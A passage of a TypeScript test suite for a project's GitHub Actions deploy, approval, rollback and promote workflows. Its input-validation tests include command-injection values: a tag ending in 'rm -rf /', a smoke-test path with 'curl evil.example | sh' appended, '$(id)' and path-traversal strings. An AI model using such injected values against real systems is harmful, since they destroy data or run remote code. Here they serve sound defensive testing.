            // kills: a gate that goes on to preview `<repository>@` with an empty digest
            const run = runGate({ digest: undefined });
            assert.strictEqual(run.status, 3);
            assert.match(run.stdout, /^::error::papyrus-api:v1\.2\.3 is not in ECR; push it with the ecr-push workflow first$/m);
            assert.ok(!run.calls.some((call) => call[1] === "preview"), "no preview after a failed look-up");
        });

        it("exits 2 when the stack has no committed config file", () => {
            // kills: a gate that previews a stack whose config is missing (the program would fail later, less clearly)
            const run = runGate({ digest: DIGEST, configFile: false });
            assert.strictEqual(run.status, 2);
            assert.match(run.stdout, /::error::Pulumi\.prod\.yaml is missing; commit the stack config/);
            assert.deepStrictEqual(run.calls, []);
        });
    });

    it("passes the stack and tag to the driver exactly, and with approval a wait that outlasts a reviewer (within the job's timeout)", () => {
        const step = job.steps[stepIndex(job, (s) => s.id === "deploy", "deploying")];
        const expected = [
            "--no-install",
            "papyrus-deploy",
            "deploy",
            "--stack",
            "dev",
            "--tag",
            "v2.0.1",
            "--on-rollback",
            "reconcile",
            "--on-interrupt",
            "abort",
            "--evidence",
            "evidence/deploy.json",
            "--json",
        ];
        assert.deepStrictEqual(runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "false" }).npxArgs, expected);
        assert.deepStrictEqual(runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "true" }).npxArgs, [...expected, "--wait-timeout", "45m"]);
        assert.ok(parseDuration("45m")! < ((job as any)["timeout-minutes"] - 10) * 60_000, "the wait leaves the job time to verify and summarize");
        assert.deepStrictEqual(step.env, {
            STACK: "${{ inputs.stack }}",
            TAG: "${{ inputs.tag }}",
            APPROVAL: "${{ inputs.approval }}",
            PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
        });
        const aborted = runStep(step.run!, { STACK: "dev", TAG: "v2.0.1", APPROVAL: "true" }, { npxExit: 14 });
        assert.strictEqual(aborted.status, 14);
        assert.match(aborted.stdout, /::error::ABORTED \(exit 14\): the rollout was rolled back on request at its PAUSE hook/);
    });

    it("refuses a tag the driver would refuse before touching AWS", () => {
        const check = job.steps[stepIndex(job, (s) => s.name === "Check the variables and inputs", "checking inputs")];
        const env = { ROLE_ARN: "arn:aws:iam::123456789012:role/deploy", PULUMI_BACKEND_URL: "s3://state", AWS_REGION: "eu-west-1", PASSPHRASE_SET: "true" };
        // kills: the shell copy of the tag policy drifting from automation/record/tags.ts's validateTag (either way)
        const tags = [
            "v1.2.3",
            "v25.10.31",
            "a".repeat(40),
            "lat" + "est",
            "",
            "v1.2",
            "v1.2.3-rc1",
            "V1.2.3",
            "1.2.3",
            "abc123",
            "a".repeat(39),
            "a".repeat(41),
            "A".repeat(40),
            "v1.2.3;rm -rf /",
            "v1.2.3\n",
            " v1.2.3",
        ];
        for (const tag of tags) {
            const driverAccepts = (() => {
                try {
                    validateTag(tag);
                    return true;
                } catch {
                    return false;
                }
            })();
            const run = runStep(check.run!, { ...env, TAG: tag });
            assert.strictEqual(
                run.status,
                driverAccepts ? 0 : 2,
                `tag ${JSON.stringify(tag)}: the driver ${driverAccepts ? "accepts" : "refuses"} it, the step exited ${run.status}`,
            );
        }
        const missing = runStep(check.run!, { ...env, ROLE_ARN: "", TAG: "v1.2.3" });
        assert.strictEqual(missing.status, 2);
        assert.match(missing.stdout, /DEPLOY_ROLE_ARN \(pulumi stack output deployRoleArn\)/);
    });
});

describe("deploy.yml's approve job (a reviewer continues a rollout paused at its PAUSE hook)", () => {
    const { workflow } = readWorkflow("deploy.yml");
    const deploy = workflow.jobs.deploy as Job & Record<string, any>;
    const approve = workflow.jobs.approve as Job & Record<string, any>;
    const approveStep = approve.steps[stepIndex(approve, (s) => s.id === "approve", "with id `approve`")];
    const hasJq = spawnSync("jq", ["--version"]).status === 0;

    it("runs only when asked, beside the deploy (no `needs`), in the environment <stack>-approval, with the stack's deploy role", () => {
        const input = workflow.on.workflow_dispatch.inputs.approval;
        assert.deepStrictEqual([input.type, input.required, input.default], ["boolean", false, false]);
        assert.strictEqual(approve.if, "inputs.approval");
        // kills: `needs: deploy`, which would start the approval only after the deploy stopped waiting for it
        assert.strictEqual(approve.needs, undefined);
        assert.strictEqual(approve.environment, "${{ inputs.stack }}-approval");
        assert.deepStrictEqual(approve.permissions, { "id-token": "write", contents: "read", actions: "read" });
        const credentials = approve.steps[stepIndex(approve, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials")];
        assert.strictEqual(credentials.with?.["role-to-assume"], "${{ vars.DEPLOY_ROLE_ARN }}");
        assert.ok(approve.steps.indexOf(credentials) < approve.steps.indexOf(approveStep));
    });

    it("does not hold the stack's concurrency group (a waiting approval never blocks the next deploy), and outlasts the deploy's wait", () => {
        assert.strictEqual(approve.concurrency, undefined);
        assert.strictEqual((workflow as any).concurrency, undefined);
        assert.deepStrictEqual(deploy.concurrency, { group: "papyrus-stack-${{ inputs.stack }}", "cancel-in-progress": false });
        assert.ok(approve["timeout-minutes"] >= deploy["timeout-minutes"], "the approval can answer for as long as the deploy runs");
    });

    it("follows the deploy job and step by the names they have, and records the approver in the reason", () => {
        assert.strictEqual(approveStep.env?.DEPLOY_JOB, deploy.name as string);
        assert.strictEqual(approveStep.env?.DEPLOY_STEP, deploy.steps[stepIndex(deploy, (s) => s.id === "deploy", "deploying")].name);
        assert.strictEqual(approveStep.env?.APPROVAL_ENVIRONMENT, approve.environment);
        assert.strictEqual(approveStep.env?.GH_TOKEN, "${{ github.token }}");
        assert.strictEqual(approveStep.env?.PULUMI_CONFIG_PASSPHRASE, "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}");
        const upload = approve.steps[stepIndex(approve, usesAction("actions/upload-artifact"), "uploading the approval's result")];
        assert.strictEqual(upload.if, "always()");
        assert.match(approveStep.run!, /--json > evidence\/approve-result\.json/);
    });

    /**
     * Runs the step with a fake `gh` that answers the approvals and, call after call, the given states of the deploy job
     * (the last one repeats), and a fake `npx` that answers `approve` with the given exit codes in turn.
     */
    function runApprove(
        states: readonly object[],
        approveExits: readonly number[],
        approvals: object[] = [{ state: "approved", environments: [{ name: "prod-approval" }], user: { login: "dana" } }],
    ) {
        let calls: string[] = [];
        const run = runStep(
            approveStep.run!,
            {
                STACK: "prod",
                TAG: "v3.0.0",
                APPROVAL_ENVIRONMENT: "prod-approval",
                DEPLOY_JOB: "Deploy v3.0.0 to prod",
                DEPLOY_STEP: "Deploy (papyrus-deploy deploy)",
                STARTED_BY: "carol",
                REPOSITORY: "acme/papyrus",
                RUN_ID: "4242",
                RUN_ATTEMPT: "1",
                GH_TOKEN: "token",
                POLL_SECONDS: "0",
            },
            {
                prepare: (dir) => {
                    states.forEach((state, i) =>
                        fs.writeFileSync(path.join(dir, `jobs-${i}.json`), JSON.stringify({ jobs: [{ name: "Build", status: "completed" }, state] })),
                    );
                    fs.writeFileSync(path.join(dir, "approvals.json"), JSON.stringify(approvals));
                    fs.writeFileSync(
                        path.join(dir, ".bin", "gh"),
                        [
                            "#!/bin/bash",
                            `echo "gh $*" >> "${dir}/.calls"`,
                            `case "$2" in *"/approvals") cat "${dir}/approvals.json"; exit 0 ;; esac`,
                            `n=$(cat "${dir}/.gh-n" 2>/dev/null || echo 0); echo $((n + 1)) > "${dir}/.gh-n"`,
                            `[ -f "${dir}/jobs-$n.json" ] || n=${states.length - 1}`,
                            `cat "${dir}/jobs-$n.json"`,
                        ].join("\n") + "\n",
                        { mode: 0o755 },
                    );
                    fs.writeFileSync(
                        path.join(dir, ".bin", "npx"),
                        [
                            "#!/bin/bash",
                            `echo "npx \${*:3}" >> "${dir}/.calls"`,
                            `n=$(cat "${dir}/.npx-n" 2>/dev/null || echo 0); echo $((n + 1)) > "${dir}/.npx-n"`,
                            `codes=(${approveExits.join(" ")})`,
                            "echo '{\"fake\": true}'",
                            'exit "${codes[$n]:-99}"',
                        ].join("\n") + "\n",
                        { mode: 0o755 },
                    );
                },
            },
        );
        if (fs.existsSync(path.join(run.dir, ".calls"))) calls = fs.readFileSync(path.join(run.dir, ".calls"), "utf8").trimEnd().split("\n");
        return { ...run, calls };
    }
    const deployJob = (status: string, step: string, conclusion: string | null = null) => ({
        name: "Deploy v3.0.0 to prod",
        status,
        conclusion,
        steps: [
            { name: "Policy gate (pulumi preview --policy-pack policy)", status: step === "queued" ? "in_progress" : "completed" },
            { name: "Deploy (papyrus-deploy deploy)", status: step },
        ],
    });
    const APPROVE = "npx approve --stack prod --reason approved in GitHub by dana (run 4242) --tag v3.0.0 --json";

    it("approved early: waits for the deploy step, asks again while nothing waits at the hook (15), and approves once, naming the reviewer", function () {
        if (!hasJq) this.skip(); // jq is on every GitHub runner
        const run = runApprove([deployJob("in_progress", "queued"), deployJob("in_progress", "in_progress")], [15, 15, 0]);
        assert.strictEqual(run.status, 0, run.stdout);
        assert.deepStrictEqual(
            run.calls.filter((c) => c.startsWith("npx")),
            [APPROVE, APPROVE, APPROVE],
            "no approve before the deploy step runs; again after each 15; none after the 0",
        );
        assert.match(run.stdout, /approved: ECS continues the rollout on prod \(approved in GitHub by dana \(run 4242\)\)/);
        assert.strictEqual(run.outputs["exit-code"], "0");
    });

    it("never approves once the deploy job has ended (or is not found): a notice, exit-code 15, and the job passes", function () {
        if (!hasJq) this.skip();
        for (const state of [deployJob("completed", "completed", "success"), { name: "Another job", status: "in_progress" }]) {
            const run = runApprove([state], [0]);
            assert.strictEqual(run.status, 0, run.stdout);
            assert.deepStrictEqual(
                run.calls.filter((c) => c.startsWith("npx")),
                [],
            );
            assert.match(
                run.stdout,
                /::notice::the deploy job ended \((success|not found)\) before its rollout waited at a hook for this approval; nothing was approved/,
            );
            assert.strictEqual(run.outputs["exit-code"], "15");
        }
        // The deploy ends while the approval asks: it stops asking.
        const ended = runApprove(
            [deployJob("in_progress", "in_progress"), deployJob("in_progress", "in_progress"), deployJob("completed", "completed", "failure")],
            [15, 15, 0],
        );
        assert.strictEqual(ended.status, 0, ended.stdout);
        assert.strictEqual(ended.calls.filter((c) => c.startsWith("npx")).length, 2);
        assert.match(ended.stdout, /the deploy job ended \(failure\)/);
    });

    it("fails with the driver's code when approve fails otherwise, and names the run's starter when the approvals say nothing", function () {
        if (!hasJq) this.skip();
        const run = runApprove([deployJob("in_progress", "in_progress")], [9], []);
        assert.strictEqual(run.status, 9);
        assert.match(run.stdout, /::error::papyrus-deploy approve failed with exit code 9; the deploy still waits at the hook/);
        assert.deepStrictEqual(
            run.calls.filter((c) => c.startsWith("npx")),
            ["npx approve --stack prod --reason approved in GitHub by carol (run 4242) --tag v3.0.0 --json"],
        );
        assert.strictEqual(run.outputs["exit-code"], "9");
    });
});

describe("rollback.yml", () => {
    const { workflow } = readWorkflow("rollback.yml");
    const job = onlyJob(workflow);
    const rollbackStep = job.steps[stepIndex(job, runs(/args=\(rollback /), "rolling back")];

    it("takes optional to_version, to_tag and to_digest inputs", () => {
        const inputs = workflow.on.workflow_dispatch.inputs;
        for (const name of ["to_version", "to_tag", "to_digest"]) {
            assert.strictEqual(inputs[name].required, false, name);
        }
    });

    it("passes only the target that was given to `papyrus-deploy rollback`", () => {
        const base = { STACK: "prod", TO_VERSION: "", TO_TAG: "", TO_DIGEST: "" };
        const prefix = [
            "--no-install",
            "papyrus-deploy",
            "rollback",
            "--stack",
            "prod",
            "--on-rollback",
            "reconcile",
            "--evidence",
            "evidence/rollback.json",
            "--json",
        ];
        assert.deepStrictEqual(runStep(rollbackStep.run!, base).npxArgs, prefix);
        assert.deepStrictEqual(runStep(rollbackStep.run!, { ...base, TO_VERSION: "12" }).npxArgs, [...prefix, "--to-version", "12"]);
        assert.deepStrictEqual(runStep(rollbackStep.run!, { ...base, TO_TAG: "v1.2.3" }).npxArgs, [...prefix, "--to-tag", "v1.2.3"]);
        const digest = "sha256:" + "b".repeat(64);
        assert.deepStrictEqual(runStep(rollbackStep.run!, { ...base, TO_DIGEST: digest }).npxArgs, [...prefix, "--to-digest", digest]);
    });

    it("says so when there is nothing to roll back to (exit 7)", () => {
        const run = runStep(rollbackStep.run!, { STACK: "dev", TO_VERSION: "", TO_TAG: "", TO_DIGEST: "" }, { npxExit: 7 });
        assert.strictEqual(run.status, 7);
        assert.match(run.stdout, /::error::nothing to roll back to \(exit 7\)/);
    });

    it("refuses more than one target before touching AWS", () => {
        const check = job.steps[stepIndex(job, (s) => s.name === "Check the variables and inputs", "checking inputs")];
        const env = { ROLE_ARN: "arn", PULUMI_BACKEND_URL: "s3://state", AWS_REGION: "eu-west-1", PASSPHRASE_SET: "true" };
        assert.strictEqual(runStep(check.run!, { ...env, TO_VERSION: "3", TO_TAG: "", TO_DIGEST: "" }).status, 0);
        const two = runStep(check.run!, { ...env, TO_VERSION: "3", TO_TAG: "v1.2.3", TO_DIGEST: "" });
        assert.strictEqual(two.status, 2);
        assert.match(two.stdout, /give at most one of to_version, to_tag and to_digest/);
    });

    it("runs `papyrus-deploy verify --stack` after the rollback and its evidence upload, failing on drift", () => {
        const verify = stepIndex(job, runs(/papyrus-deploy verify --stack "\$STACK"/), "verifying");
        const upload = stepIndex(job, (s) => usesAction("actions/upload-artifact")(s) && s.with?.path === "evidence/", "uploading evidence");
        assert.ok(job.steps.indexOf(rollbackStep) < upload && upload < verify);
        const run = runStep(job.steps[verify].run!, { STACK: "prod" }, { npxExit: 6 });
        assert.strictEqual(run.status, 6);
        assert.match(run.stdout, /::error::DRIFT \(exit 6\)/);
        assert.deepStrictEqual(run.npxArgs, ["--no-install", "papyrus-deploy", "verify", "--stack", "prod", "--json"]);
    });
});

describe("promote.yml", () => {
    const { workflow } = readWorkflow("promote.yml");
    const source = workflow.jobs.source;
    const promote = workflow.jobs.promote as Job & { needs?: string };
    const inputs = workflow.on.workflow_dispatch.inputs;
    const step = (job: Job, name: RegExp) => job.steps[stepIndex(job, (s) => name.test(s.name ?? ""), `named ${name}`)];
    const hasJq = spawnSync("jq", ["--version"]).status === 0;
    const URL = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/papyrus-api";
    const digest = (c: string) => `sha256:${c.repeat(64)}`;

    it("is started by hand with a source and a target that the stack configs agree with", () => {
        // kills: a target whose Pulumi.<stack>.yaml does not name the source in papyrus:promoteFrom (the role could not read its history)
        assert.deepStrictEqual(Object.keys(workflow.jobs), ["source", "promote"]);
        const deployStacks = readWorkflow("deploy.yml").workflow.on.workflow_dispatch.inputs.stack.options as string[];
        for (const to of inputs.to.options as string[]) {
            assert.ok(deployStacks.includes(to), `${to} is not a stack deploy.yml knows`);
            const config = (yaml.load(fs.readFileSync(path.join(ROOT, `Pulumi.${to}.yaml`), "utf8")) as { config: Record<string, unknown> }).config;
            assert.ok(
                (inputs.from.options as string[]).includes(String(config["papyrus:promoteFrom"])),
                `Pulumi.${to}.yaml must set papyrus:promoteFrom to one of ${inputs.from.options}`,
            );
        }
        assert.deepStrictEqual([inputs.from.required, inputs.to.required, inputs.version.required, inputs.wait.default], [true, true, false, "10m"]);
        assert.strictEqual(parseDuration(inputs.wait.default), 10 * 60_000, "the default wait is the driver's");
    });

    it("reads the source in the source's environment with its role, and promotes in the target's environment with the target's role", () => {
        assert.strictEqual(source.environment, "${{ inputs.from }}");
        assert.deepStrictEqual(promote.environment, { name: "${{ inputs.to }}", url: "${{ steps.summary.outputs.url }}" });
        assert.strictEqual(promote.needs, "source");
        for (const job of [source, promote]) {
            const credentials = job.steps[stepIndex(job, usesAction("aws-actions/configure-aws-credentials"), "configuring AWS credentials")];
            assert.strictEqual(credentials.with?.["role-to-assume"], "${{ vars.DEPLOY_ROLE_ARN }}", "the environment's own role");
        }
        assert.deepStrictEqual((workflow as any).concurrency, { group: "papyrus-stack-${{ inputs.to }}", "cancel-in-progress": false });
        assert.deepStrictEqual(workflow.permissions, { "id-token": "write", contents: "read" });
        // Reading history and state needs no passphrase: the source job gets no secret of the source.
        assert.doesNotMatch(JSON.stringify(source), /secrets\./);
        for (const s of promote.steps.filter((x) => x.env?.PULUMI_CONFIG_PASSPHRASE !== undefined)) {
            assert.match(String(s.run), /pulumi preview|args=\(promote /, `step "${s.name}" does not need the passphrase`);
        }
        const gate = stepIndex(promote, runs(/pulumi preview --stack "\$TO" --policy-pack policy\b/), "running the policy gate");
        assert.ok(gate < stepIndex(promote, runs(/args=\(promote /), "promoting"), "the policy gate runs before the promote");
    });

    it("refuses the same stack on both sides, a bad version and a bad wait before any AWS call, as the driver would", () => {
        const check = step(source, /^Check the variables and inputs$/);
        const env = {
            ROLE_ARN: "arn",
            PULUMI_BACKEND_URL: "s3://state",
            AWS_REGION: "eu-west-1",
            FROM: "dev",
            TO: "prod",
            VERSION: "",
            WAIT: "10m",
            SMOKE_TEST: "scripts/smoke-test.sh",
            SMOKE_TEST_TIMEOUT: "5m",
        };
        assert.strictEqual(runStep(check.run!, env).status, 0);
        // The smoke test is a script of this repository, named by a plain relative path: never a command line.
        for (const [smokeTest, ok] of [
            ["scripts/smoke-test.sh", true],
            ["", true],
            ["test/smoke/orders_api.sh", true],
            ["scripts/smoke-test.sh; curl evil.example | sh", false],
            ["$(id)", false],
            ["../other/smoke.sh", false],
            ["scripts/../../smoke.sh", false],
            ["/usr/bin/true", false],
            ["-rf", false],
            ["node_modules/.bin/anything", false],
            ["scripts/smoke test.sh", false],
        ] as const) {
            const run = runStep(check.run!, { ...env, SMOKE_TEST: smokeTest });
            assert.strictEqual(run.status, ok ? 0 : 2, `smoke_test ${JSON.stringify(smokeTest)}: ${run.stdout}`);
            if (!ok) assert.match(run.stdout, /::error::smoke_test '.*' is not the path of a script in this repository/);
        }
        for (const timeout of ["5m", "30s", "1m30s", "", "2h", "5 m"]) {
            const shell = runStep(check.run!, { ...env, SMOKE_TEST_TIMEOUT: timeout }).status === 0;
            assert.strictEqual(shell, parseDuration(timeout) !== undefined, `smoke_test_timeout ${JSON.stringify(timeout)}`);
        }
        const same = runStep(check.run!, { ...env, TO: "dev" });
        assert.strictEqual(same.status, 2);
        assert.match(same.stdout, /::error::from and to are both 'dev'/);
        for (const [version, ok] of [
            ["3", true],
            ["0", false],
            ["1e0", false],
            ["x", false],
            ["03", false],
        ] as const) {
            assert.strictEqual(runStep(check.run!, { ...env, VERSION: version }).status, ok ? 0 : 2, `version ${version}`);
        }
        // kills: the shell's duration check drifting from the driver's `--wait` parser
        for (const wait of ["10m", "90s", "90", "1m30s", "0", "60m", "", "2h", "10 m", "m", "-1s", "1.5m"]) {
            const shell = runStep(check.run!, { ...env, WAIT: wait }).status === 0;
            const driver = parseDuration(wait) !== undefined;
            assert.ok(!driver || shell, `the driver takes --wait ${JSON.stringify(wait)}, the step refuses it`);
            assert.ok(driver || !shell || wait === "", `the step takes --wait ${JSON.stringify(wait)}, the driver refuses it`);
        }
    });

    describe("the source job's pick (run with a fake `npx` answering like papyrus-deploy)", () => {
        const pick = step(source, /^Pick the source's update/);
        const RELEASED = { verdict: "completed", reason: "ECS deployment completed" };
        const HISTORY = {
            stack: "dev",
            deployments: [
                { version: 6, operation: "update", kind: "deploy", result: "succeeded", digest: digest("d"), tag: "v4.0.0", running: false, release: RELEASED },
                {
                    version: 5,
                    operation: "update",
                    kind: "deploy",
                    result: "succeeded",
                    digest: digest("a"),
                    tag: "v3.0.0",
                    running: true,
                    release: { verdict: "rolled-back", reason: "ECS deployment ecs-svc/5 was rolled back" },
                },
                { version: 4, operation: "update", kind: "deploy", result: "succeeded", digest: digest("a"), tag: "v3.0.0", running: false, release: RELEASED },
                { version: 3, operation: "update", kind: "deploy", result: "succeeded", digest: digest("b"), tag: "v2.0.0", running: false, release: RELEASED },
            ],
        };
        /** The fake logs each call's command and answers `verify` with `verifyExit` and the recorded digest, `history` with HISTORY. */
        function runPick(env: Record<string, string>, verify: { exit: number; recorded: string }) {
            let calls: string[] = [];
            const run = runStep(
                pick.run!,
                { FROM: "dev", ...env },
                {
                    prepare: (dir) => {
                        fs.writeFileSync(path.join(dir, "history.json"), JSON.stringify(HISTORY));
                        fs.writeFileSync(
                            path.join(dir, ".bin", "npx"),
                            [
                                "#!/bin/bash",
                                `echo "$3 $4 $5" >> "${dir}/.calls"`,
                                `if [ "$3" = verify ]; then echo '{"inSync": true, "recorded": "${URL}@${verify.recorded}"}'; exit ${verify.exit}; fi`,
                                `if [ "$3" = history ]; then cat "${dir}/history.json"; exit 0; fi`,
                                "exit 99",
                            ].join("\n") + "\n",
                            { mode: 0o755 },
                        );
                    },
                },
            );
            if (fs.existsSync(path.join(run.dir, ".calls"))) calls = fs.readFileSync(path.join(run.dir, ".calls"), "utf8").trimEnd().split("\n");
            return { ...run, calls };
        }

        it("without a version: fails on drift (6) or an unfinished rollout (10), and otherwise takes the update dev runs only if its release completed (13)", function () {
            if (!hasJq) this.skip(); // jq is on every GitHub runner
            const drift = runPick({ VERSION: "" }, { exit: 6, recorded: digest("a") });
            assert.strictEqual(drift.status, 6);
            assert.match(drift.stdout, /::error::DRIFT \(exit 6\): dev's ECS service runs another image/);
            assert.deepStrictEqual(drift.calls, ["verify --stack dev"], "no history read after a drift");
            const rolling = runPick({ VERSION: "" }, { exit: 10, recorded: digest("a") });
            assert.strictEqual(rolling.status, 10);
            assert.match(rolling.stdout, /::error::ROLLING OUT \(exit 10\): ECS is still rolling out what dev runs; nothing was promoted/);

            // dev runs update 5, which ECS rolled back: not update 4 (an older deploy of the same digest), not 6 (the newest).
            // kills: picking by digest and result alone (the old rule), or ignoring the verdict
            const refused = runPick({ VERSION: "" }, { exit: 0, recorded: digest("a") });
            assert.strictEqual(refused.status, 13, refused.stdout);
            assert.match(
                refused.stdout,
                /::error::dev's update 5 has release verdict 'rolled-back' \(ECS deployment ecs-svc\/5 was rolled back\); only a completed release is promoted \(exit 13\)/,
            );
            assert.deepStrictEqual(refused.outputs, {});

            const none = runPick({ VERSION: "" }, { exit: 0, recorded: digest("c") });
            assert.strictEqual(none.status, 7);
            assert.match(none.stdout, /::error::dev has no update that deployed sha256:c{64} to promote \(exit 7\)/);
        });

        it("with a version: reads that update only (no ECS check), takes it when its release completed and refuses it otherwise (13)", function () {
            if (!hasJq) this.skip();
            const named = runPick({ VERSION: "3" }, { exit: 6, recorded: digest("a") });
            assert.strictEqual(named.status, 0, named.stdout);
            assert.deepStrictEqual(named.outputs, { version: "3", digest: digest("b"), tag: "v2.0.0" });
            assert.deepStrictEqual(named.calls, ["history --stack dev"]);
            const rolledBack = runPick({ VERSION: "5" }, { exit: 0, recorded: digest("a") });
            assert.strictEqual(rolledBack.status, 13);
            assert.match(rolledBack.stdout, /::error::dev's update 5 has release verdict 'rolled-back'/);
            const missing = runPick({ VERSION: "9" }, { exit: 0, recorded: digest("a") });
            assert.strictEqual(missing.status, 7);
            assert.match(missing.stdout, /::error::dev has no update 9 to promote \(exit 7\)/);
        });
    });

    it("passes the source's update, the wait and the evidence path to `papyrus-deploy promote`, and explains each exit code", () => {
        const run = step(promote, /^Promote \(papyrus-deploy promote\)$/);
        assert.deepStrictEqual(run.env, {
            FROM: "${{ inputs.from }}",
            TO: "${{ inputs.to }}",
            VERSION: "${{ needs.source.outputs.version }}",
            WAIT: "${{ inputs.wait }}",
            SMOKE_TEST: "${{ inputs.smoke_test }}",
            SMOKE_TEST_TIMEOUT: "${{ inputs.smoke_test_timeout }}",
            PULUMI_CONFIG_PASSPHRASE: "${{ secrets.PULUMI_CONFIG_PASSPHRASE }}",
        });
        const env = { FROM: "dev", TO: "prod", VERSION: "4", WAIT: "10m", SMOKE_TEST: "", SMOKE_TEST_TIMEOUT: "5m" };
        const ok = runStep(run.run!, env);
        assert.strictEqual(ok.status, 0, ok.stdout);
        assert.deepStrictEqual(ok.npxArgs, [
            "--no-install",
            "papyrus-deploy",
            "promote",
            "--from",
            "dev",
            "--to",
            "prod",
            "--version",
            "4",
            "--wait",
            "10m",
            "--on-rollback",
            "reconcile",
            "--on-interrupt",
            "abort",
            "--evidence",
            "evidence/promote.json",
            "--json",
        ]);
        for (const [code, message] of [
            [3, /::error::the digest is not in prod's repository \(exit 3\): replication from dev's registry did not deliver it within 10m/],
            [6, /::error::ECS ROLLED BACK or DRIFT \(exit 6\) after the promote/],
            [7, /::error::nothing to promote \(exit 7\)/],
            [13, /::error::NOT RELEASED \(exit 13\): dev's update 4 has no completed release verdict/],
        ] as const) {
            const failed = runStep(run.run!, env, { npxExit: code });
            assert.strictEqual(failed.status, code);
            assert.match(failed.stdout, message);
            assert.strictEqual(failed.outputs["exit-code"], String(code));
        }
        const upload = stepIndex(promote, (s) => usesAction("actions/upload-artifact")(s) && s.with?.path === "evidence/", "uploading the evidence");
        assert.strictEqual(promote.steps[upload].if, "always()");
        assert.ok(upload > promote.steps.indexOf(run));
    });

    describe("the smoke test at prod's PAUSE hook (issue #27's `--smoke-test`)", () => {
        const run = step(promote, /^Promote \(papyrus-deploy promote\)$/);
        const env = { FROM: "dev", TO: "prod", VERSION: "4", WAIT: "10m", SMOKE_TEST: "scripts/smoke-test.sh", SMOKE_TEST_TIMEOUT: "5m" };
        /** A checkout where git tracks `tracked` (and an untracked file beside it). */
        const checkout = (tracked: string) => (dir: string) => {
            fs.mkdirSync(path.join(dir, "scripts"), { recursive: true });
            fs.writeFileSync(path.join(dir, tracked), "#!/bin/bash\nexit 0\n");
            fs.writeFileSync(path.join(dir, "scripts", "untracked.sh"), "#!/bin/bash\nexit 0\n");
            for (const args of [
                ["init", "-q"],
                ["add", tracked],
            ])
                assert.strictEqual(spawnSync("git", args, { cwd: dir }).status, 0);
        };

        it("defaults to the committed scripts/smoke-test.sh, with the driver's default timeout", () => {
            const inputs = workflow.on.workflow_dispatch.inputs;
            assert.deepStrictEqual([inputs.smoke_test.default, inputs.smoke_test.required], ["scripts/smoke-test.sh", false]);
            assert.deepStrictEqual([inputs.smoke_test_timeout.default, parseDuration(inputs.smoke_test_timeout.default)], ["5m", 5 * 60_000]);
            assert.ok(fs.existsSync(path.join(ROOT, inputs.smoke_test.default)), "the default smoke test is in the repository");
        });

        it("passes the committed script to `--smoke-test` (run by bash: no exec bit needed) with its timeout", () => {
            const ok = runStep(run.run!, env, { prepare: checkout("scripts/smoke-test.sh") });
            assert.strictEqual(ok.status, 0, ok.stdout);
            assert.deepStrictEqual(ok.npxArgs!.slice(-4), ["--smoke-test", "bash ./scripts/smoke-test.sh", "--smoke-test-timeout", "5m"]);
            assert.deepStrictEqual(ok.npxArgs!.slice(2, 3), ["promote"]);
        });

        it("refuses a script git does not track (one npm ci or a step wrote) before running the driver (exit 2)", () => {
            for (const smokeTest of ["scripts/untracked.sh", "scripts/missing.sh"]) {
                const refused = runStep(run.run!, { ...env, SMOKE_TEST: smokeTest }, { prepare: checkout("scripts/smoke-test.sh") });
                assert.strictEqual(refused.status, 2, refused.stdout);
                assert.match(refused.stdout, new RegExp(`::error::smoke_test '${smokeTest}' is not a file committed in this repository`));
                assert.strictEqual(refused.npxArgs, undefined, "the driver did not run");
                assert.strictEqual(refused.outputs["exit-code"], "2");
            }
        });

        it("says a failed smoke test (or an abort) rolled prod back when the driver exits 14", () => {
            const failed = runStep(run.run!, env, { npxExit: 14, prepare: checkout("scripts/smoke-test.sh") });
            assert.strictEqual(failed.status, 14);
            assert.match(failed.stdout, /::error::SMOKE TEST FAILED or ABORTED \(exit 14\): at the PAUSE hook the smoke test scripts\/smoke-test\.sh failed/);
            assert.strictEqual(failed.outputs["exit-code"], "14");
        });
    });
});

describe("job summaries and environment URLs of the jobs that deploy (scripts/job-summary.ts, run for real)", function () {
    this.timeout(120_000);
    const REPO = "123456789012.dkr.ecr.eu-central-1.amazonaws.com/papyrus-api";
    const digest = (c: string) => `sha256:${c.repeat(64)}`;
    const URL = "https://papyrus-lb-1234567890.eu-central-1.elb.amazonaws.com";
    const record = (kind: string, stack: string): SummaryEvidence => ({
        schema: "papyrus.deploy-evidence/v2",
        kind: kind as SummaryEvidence["kind"],
        stack,
        stackQualified: `organization/papyrus/${stack}`,
        repository: "papyrus-api",
        repositoryUrl: REPO,
        image: `${REPO}@${digest("a")}`,
        imageDigest: digest("a"),
        applied: true,
        requestedImage: `${REPO}@${digest("a")}`,
        requestedDigest: digest("a"),
        imageTag: "v3.0.0",
        mediaType: "application/vnd.oci.image.manifest.v1+json",
        isIndex: false,
        previousDigest: digest("b"),
        updateVersion: 9,
        result: "succeeded",
        startedAt: "2026-11-23T10:00:00Z",
        finishedAt: "2026-11-23T10:04:00Z",
        requestedBy: "carol (github-actions)",
        verify: { inSync: true, running: [`${REPO}@${digest("a")}`] },
        rollout: { deploymentId: "ecs-svc/42", state: "COMPLETED", runningDigest: digest("a") },
        loadBalancerUrl: URL,
    });

    // [workflow, job, the driver step's id, its command, the values the step's `${{ }}` env gets, the summary's input besides the evidence]
    const cases = [
        ["deploy.yml", "deploy", "deploy", "deploy", { STACK: "prod", TAG: "v3.0.0" }, { command: "deploy", stack: "prod", tag: "v3.0.0" }],
        ["rollback.yml", "rollback", "rollback", "rollback", { STACK: "prod" }, { command: "rollback", stack: "prod" }],
        [
            "promote.yml",
            "promote",
            "promote",
            "promote",
            { FROM: "dev", TO: "prod", VERSION: "4", DIGEST: digest("a"), TAG: "v3.0.0" },
            { command: "promote", stack: "prod", tag: "v3.0.0", source: { stack: "dev", version: "4", digest: digest("a") } },
        ],
    ] as const;

    for (const [file, jobName, driverId, command, inputs, summaryInput] of cases) {
        describe(`${file}, job ${jobName}`, () => {
            const job = readWorkflow(file).workflow.jobs[jobName];
            const summaryIndex = stepIndex(job, (s) => s.id === "summary", "with id `summary`");
            const summary = job.steps[summaryIndex];
            const driverIndex = stepIndex(job, (s) => s.id === driverId, `with id \`${driverId}\``);

            it("runs after the driver whatever happened (once the dependencies are installed), and reads the files the driver writes", () => {
